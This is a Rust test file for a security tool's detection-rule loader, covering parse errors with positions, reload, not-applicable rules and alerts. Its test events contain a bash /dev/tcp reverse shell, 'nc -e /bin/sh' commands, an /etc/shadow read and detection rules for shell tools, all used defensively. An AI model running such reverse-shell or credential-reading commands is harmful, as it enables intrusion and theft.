//! Loading rule directories: errors with positions, not-applicable rules, reload, the alert model.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::json;

use super::{alerts, exec, load, proc_rule, report_of, rule_alerts};
use crate::detect::loader::parse_file;
use crate::detect::{AlertKind, Category, Level, ResponseAction, RuleSet};

fn testdata() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("src/detect/testdata")
}

#[test]
fn example_rules_load() {
    let (set, report) = RuleSet::load(&[testdata()]);
    assert!(report.is_ok(), "{:#?}", report.errors);
    assert_eq!(report.files, 5);
    assert_eq!(report.rules, 4);
    assert_eq!(report.correlations, 1);
    assert_eq!(report.ioc_lists, 1);
    assert!(report.not_applicable.is_empty(), "{:#?}", report.not_applicable);
    assert!(report.warnings.is_empty(), "{:#?}", report.warnings);
    assert_eq!(set.unfiltered_rules(Category::ProcessCreation), 0, "every example rule has a literal to prefilter on");
}

#[test]
fn example_rules_detect() {
    let (set, _) = RuleSet::load(&[testdata()]);
    let set = Arc::new(set);
    let shell = exec(
        json!({"process": {"executable": "/usr/bin/bash", "command_line": "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"}}),
    );
    let out = alerts(&set, &shell);
    assert_eq!(rule_alerts(&out), ["6f0e7d5a-3f51-4d8e-9c55-0b1f9d0f3a11"]);
    let a = &out[0];
    assert_eq!(a.rule.level, Some(Level::High));
    assert_eq!(a.severity(), 73);
    assert_eq!(a.rule.response, [ResponseAction::KillTree]);
    assert_eq!(a.rule.threat.tactics[0].name, "Execution");
    assert_eq!(a.rule.threat.techniques[0].subtechnique.as_deref(), Some("T1059.004"));
    assert!(a.standalone);
    assert!(a.rule.description.as_deref().unwrap_or("").contains("/dev/tcp"));

    let nc = exec(json!({"process": {"executable": "/usr/bin/nc", "command_line": "nc /e /bin/sh 10.0.0.1 4444"}}));
    assert_eq!(rule_alerts(&alerts(&set, &nc)).len(), 1, "windash: /e is -e");
    let selftest = exec(
        json!({"process": {"executable": "/usr/bin/nc", "command_line": "nc -e /bin/sh x", "working_directory": "/opt/selftest/a"}}),
    );
    assert!(alerts(&set, &selftest).is_empty());

    let shadow = json!({"event": {"category": ["file"], "type": ["access"]}, "file": {"path": "/etc/shadow"}, "process": {"executable": "/usr/bin/python3"}});
    assert_eq!(rule_alerts(&alerts(&set, &shadow)), ["0b7c2f6e-5a1d-4a8b-8f0e-2d6c1e9a7b42"]);
    let sshd = json!({"event": {"category": ["file"], "type": ["access"]}, "file": {"path": "/etc/shadow"}, "process": {"executable": "/usr/sbin/sshd"}});
    assert!(alerts(&set, &sshd).is_empty());

    let dns = json!({"event": {"category": ["network"], "type": ["protocol"], "action": "dns_query"}, "dns": {"question": {"name": "xmr.NANOPOOL.org"}}});
    let out = alerts(&set, &dns);
    assert_eq!(rule_alerts(&out), ["9d4e1c3b-7a2f-4e6d-b1c8-5f3a2e0d9c77"]);
    assert_eq!(out[0].rule.response, [ResponseAction::Kill]);

    // IoC list: a domain's subdomain, a path glob, an IP in a block.
    let bad_dns = json!({"event": {"category": ["network"], "action": "dns_query"}, "dns": {"question": {"name": "c2.evil.example"}}});
    let out = alerts(&set, &bad_dns);
    assert!(
        matches!(&out[0].kind, AlertKind::Ioc { field, indicator, .. } if field == "dns.question.name" && indicator == "evil.example")
    );
    assert_eq!(out[0].rule.response, [ResponseAction::Kill]);
    let shm = exec(json!({"process": {"executable": "/dev/shm/x"}}));
    assert!(matches!(&alerts(&set, &shm)[0].kind, AlertKind::Ioc { indicator, .. } if indicator == "/dev/shm/*"));
    let conn =
        json!({"event": {"category": ["network"], "type": ["connection"]}, "destination": {"ip": "198.51.100.9"}});
    assert_eq!(alerts(&set, &conn).len(), 1);
    let hash = exec(
        json!({"process": {"hash": {"sha256": "5E884898DA28047151D0E56F8DC6292773603D0D6AABBDD62A11EF721D1542D8"}}}),
    );
    assert_eq!(alerts(&set, &hash).len(), 1);
}

#[test]
fn broken_files_are_reported_and_good_files_still_load() {
    let dir = tempfile::tempdir().unwrap();
    let good = proc_rule("    sel:\n        Image|endswith: '/nc'\n    condition: sel");
    std::fs::write(dir.path().join("good.yml"), &good).unwrap();
    let bad =
        proc_rule("    sel:\n        Image|endswith: '/nc'\n        CommandLine|startwith: 'x'\n    condition: sel")
            .replace("test-rule", "other");
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/bad.yaml"), bad).unwrap();
    std::fs::write(dir.path().join("sub/syntax.yml"), "title: x\ndetection: [\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule").unwrap();
    let (set, report) = RuleSet::load(&[dir.path()]);
    assert_eq!(report.files, 3);
    assert_eq!(set.rules().len(), 1);
    assert_eq!(report.errors.len(), 2, "{:#?}", report.errors);
    let e = report.errors.iter().find(|e| e.path.ends_with("sub/bad.yaml")).unwrap();
    assert_eq!((e.line, e.column), (9, 21));
    assert!(e.to_string().ends_with("sub/bad.yaml:9:21: unknown modifier `startwith`"), "{e}");
    let s = report.errors.iter().find(|e| e.path.ends_with("sub/syntax.yml")).unwrap();
    assert!(s.line >= 2, "{s}");
    let (_, missing) = RuleSet::load(&[dir.path().join("nope")]);
    assert_eq!(missing.errors.len(), 1);
}

#[test]
fn reload_keeps_the_previous_version_of_a_broken_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("r.yml");
    std::fs::write(&path, proc_rule("    sel:\n        Image|endswith: '/nc'\n    condition: sel")).unwrap();
    let (v1, r1) = RuleSet::load(&[dir.path()]);
    assert!(r1.is_ok());
    std::fs::write(&path, "title: [broken\n").unwrap();
    let (v2, r2) = v1.reload();
    assert_eq!(r2.errors.len(), 1);
    assert_eq!(r2.kept_previous.as_slice(), std::slice::from_ref(&path));
    assert_eq!(v2.rules().len(), 1);
    let nc = exec(json!({"process": {"executable": "/bin/nc"}}));
    assert_eq!(alerts(&Arc::new(v2), &nc).len(), 1);
    // A valid change takes effect.
    std::fs::write(&path, proc_rule("    sel:\n        Image|endswith: '/ncat'\n    condition: sel")).unwrap();
    let (v3, r3) = v1.reload();
    assert!(r3.is_ok() && r3.kept_previous.is_empty());
    assert!(alerts(&Arc::new(v3), &nc).is_empty());
}

#[test]
fn other_products_and_services_are_not_applicable() {
    let cases = [
        ("product: windows\n    category: process_creation", "windows"),
        ("product: linux\n    service: auditd", "auditd"),
        ("product: linux\n    category: registry_set", "registry_set"),
        ("product: linux", "no category"),
    ];
    for (ls, why) in cases {
        let text =
            format!("title: T\nlogsource:\n    {ls}\ndetection:\n    sel:\n        EventID: 1\n    condition: sel\n");
        let r = report_of("w.yml", &text);
        assert!(r.is_ok(), "{ls}: {:#?}", r.errors);
        assert_eq!(r.rules, 0);
        assert_eq!(r.not_applicable.len(), 1, "{ls}");
        assert!(r.not_applicable[0].reason.contains(why), "{}", r.not_applicable[0].reason);
        assert_eq!(r.not_applicable[0].line, 2);
    }
    // Errors in a not-applicable rule's detection are still errors.
    let r = report_of("w.yml", "title: T\nlogsource:\n    product: windows\ndetection:\n    sel:\n        Image|bogus: x\n    condition: sel\n");
    assert_eq!(r.errors.len(), 1);
}

#[test]
fn metadata_errors_are_located() {
    let base = proc_rule("    sel:\n        Image: x\n    condition: sel");
    let r = report_of("m.yml", &format!("{base}response:\n    - kill\n    - nuke\n"));
    assert_eq!((r.errors[0].line, r.errors[0].column), (13, 7));
    assert!(r.errors[0].reason.contains("nuke"));
    let r = report_of("m.yml", &base.replace("level: high", "level: severe"));
    assert_eq!(r.errors[0].line, 10);
    let r = report_of("m.yml", &base.replace("title: Test rule\n", ""));
    assert!(r.errors[0].reason.contains("title"));
    let r = report_of("m.yml", "just a string\n");
    assert_eq!(r.errors.len(), 1);
}

#[test]
fn duplicate_ids_are_rejected() {
    let a = proc_rule("    sel:\n        Image: x\n    condition: sel");
    let (set, r) = RuleSet::from_sources([("a.yml", a.as_str()), ("b.yml", a.as_str())]);
    assert_eq!(set.rules().len(), 1);
    assert_eq!(r.errors.len(), 1);
    assert!(r.errors[0].reason.contains("a.yml"), "{}", r.errors[0]);
}

#[test]
fn warnings_for_unknown_fields() {
    let r = report_of("w.yml", &proc_rule("    sel:\n        EventID: 1\n    condition: sel"));
    assert!(r.is_ok());
    assert_eq!(r.warnings.len(), 1);
    assert_eq!(r.warnings[0].line, 8);
}

#[test]
fn rule_collections_with_global_action() {
    let text = "action: global\ntitle: Shells\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    condition: sel\n---\nid: a\ndetection:\n    sel:\n        Image|endswith: /bash\n---\nid: b\ndetection:\n    sel:\n        Image|endswith: /zsh\n";
    let set = Arc::new(load(text));
    assert_eq!(set.rules().len(), 2);
    let out = alerts(&set, &exec(json!({"process": {"executable": "/bin/zsh"}})));
    assert_eq!(rule_alerts(&out), ["b"]);
}

/// No input makes the loader panic: every prefix of every example file, and some junk.
#[test]
fn truncated_and_junk_files_never_panic() {
    for entry in std::fs::read_dir(testdata()).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        for (i, _) in text.char_indices() {
            let _ = parse_file(&path, &text[..i]);
        }
    }
    for junk in [
        "",
        "---",
        "- - -",
        "{",
        "title: x\ndetection: 5",
        "title: x\ncorrelation: 5",
        "\u{0}\u{1}",
        "a: *b",
        "? [a]\n: b",
        "title: t\nlogsource: {category: process_creation}\ndetection: {s: {a: {b: c}}, condition: s}",
    ] {
        let _ = parse_file(Path::new("j.yml"), junk);
        let _ = parse_file(Path::new("j.ioc.yaml"), junk);
    }
}
